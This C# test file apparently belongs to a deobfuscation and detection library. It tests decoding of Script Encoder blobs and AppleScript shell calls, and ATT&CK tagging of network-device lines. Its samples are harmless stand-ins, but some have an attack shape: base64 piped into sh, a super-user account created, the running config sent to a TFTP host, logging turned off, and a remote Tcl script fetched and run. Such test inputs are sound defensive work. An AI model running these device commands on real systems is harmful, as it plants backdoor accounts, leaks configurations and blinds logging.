namespace Stemma.Decoding.Tests;

/// <summary>Script Encoder, AppleScript, and the lines of network devices.</summary>
public sealed class OtherKindsTests
{
    // MsgBox "" as the Script Encoder writes it, and a line end and a bracket in the way in which it writes these.
    private const string Encoded = @"#@~^CQAAAA==\ko$K6,JJqQQAAA==^#~@", Escapes = "#@~^AwAAAA==@&@*@$qQQAAA==^#~@";

    [Theory]
    [InlineData(ScriptKind.VisualBasic)]
    [InlineData(ScriptKind.Auto)]
    public void A_script_of_the_Script_Encoder_is_decoded(ScriptKind kind) =>
        Assert.Contains(Decoder.Decode(Encoded, kind).Layers, l => l is { Step: "Script Encoder", Text: "MsgBox \"\"" });

    [Fact]
    public void What_the_Script_Encoder_writes_otherwise_is_read() =>
        Assert.Equal("\n>@", ScriptEncoder.Decode(Escapes, new DecodeBudget(DecodeLimits.Default)));

    [Fact]
    public void An_encoded_script_in_a_page_is_decoded() =>
        Assert.Contains(Decoder.Decode($"<html><script language=\"VBScript.Encode\">{Encoded}</script></html>").Layers, l => l is { Kind: ScriptKind.VisualBasic, Text: "MsgBox \"\"" });

    [Theory]
    [InlineData("#@~^")]
    [InlineData("#@~^AAAAAA==")]
    [InlineData("#@~^^#~@")]
    [InlineData("#@~^AAAAAA==\\k")]
    [InlineData("a#@~^AAAAAA==^#~@#@~^AAAAAA==@")]
    public void A_part_that_is_cut_off_is_decoded_as_far_as_it_goes(string text) => Assert.NotEmpty(Decoder.Decode(text).Layers);

    [Theory]
    [InlineData("do shell script \"echo 12345\"", "echo 12345")]
    [InlineData("do shell script \"echo \" & \"12345\" with administrator privileges", "echo 12345")]
    [InlineData("set a to \"echo \"\nset b to a & \"12345\"\ndo shell script b", "echo 12345")]
    [InlineData("do shell script (character id {101, 99, 104, 111}) & space & \"12345\"", "echo 12345")]
    [InlineData("do shell script \"echo \\\"12345\\\"\"", "echo \"12345\"")]
    [InlineData("do shell script \"echo \" & quoted form of \"1 2\"", "echo '1 2'")]
    public void What_AppleScript_hands_to_a_shell_is_a_layer(string script, string command) =>
        Assert.Contains(Decoder.Decode(script, ScriptKind.AppleScript).Layers, l => l.Kind == ScriptKind.Shell && l.Text == command);

    [Fact]
    public void What_a_shell_command_of_AppleScript_hides_is_decoded() =>
        Assert.Contains(Decoder.Decode("do shell script \"echo ZWNobyAxMjM0NQ== | base64 -d | sh\"").Layers, l => l.Text == "echo 12345");

    [Theory]
    [InlineData("enable\nconfigure terminal\nusername a privilege 15 secret b\n", "T1136.001")]
    [InlineData("Router#copy running-config tftp://192.0.2.1/a", "T1602.002")]
    [InlineData("switch# monitor capture a interface GigabitEthernet0/1 both\n", "T1040")]
    [InlineData("conf t\nno logging on\n", "T1562.003")]
    [InlineData("set system login user a class super-user\n", "T1136.001")]
    [InlineData("Router#tclsh http://192.0.2.1/a.tcl", "T1059.008")]
    public void Lines_of_a_network_device_are_known_by_themselves_and_tell_what_they_do(string lines, string technique)
    {
        DecodedArtifact artifact = Decoder.Decode(lines);
        Assert.Equal(ScriptKind.NetworkDevice, artifact.Layers[0].Kind);
        Assert.Contains(artifact.Behaviours, b => b.Technique == technique);
    }
}
